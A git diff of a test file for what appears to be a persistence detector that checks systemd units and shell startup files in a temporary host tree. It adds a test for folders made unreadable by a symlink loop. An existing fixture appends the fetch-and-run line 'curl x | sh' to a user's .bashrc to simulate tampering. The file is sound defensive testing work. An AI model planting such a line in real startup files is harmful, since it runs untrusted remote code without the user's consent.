@@ -1,5 +1,5 @@
 import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { appendFileSync, chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
+import { appendFileSync, chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import def from './index.ts';
@@ -201,6 +201,17 @@ describe('persistence on real files (a host tree under a temporary root)', () =>
     appendFileSync(join(h.root, 'usr/lib/systemd/system/ssh.service'), 'Restart=always\n');
     unlinkSync(join(h.root, 'usr/lib/systemd/system/new.service'));
     appendFileSync(join(h.root, 'home/bob/.bashrc'), 'curl x | sh\n');
+    await det.gather!(r.acc);
+    expect(r.events).toEqual([]);
+  });
+
+  it('a folder that cannot be read for a while is not reported as emptied', async () => {
+    const det = h.make();
+    const r = record();
+    await det.gather!(r.acc);
+    // Root reads any folder; a symlink loop is what makes readdir fail for it (ELOOP).
+    rmSync(join(h.root, 'etc/profile.d'), { recursive: true });
+    symlinkSync(join(h.root, 'etc/profile.d'), join(h.root, 'etc/profile.d'));
     await det.gather!(r.acc);
     expect(r.events).toEqual([]);
   });
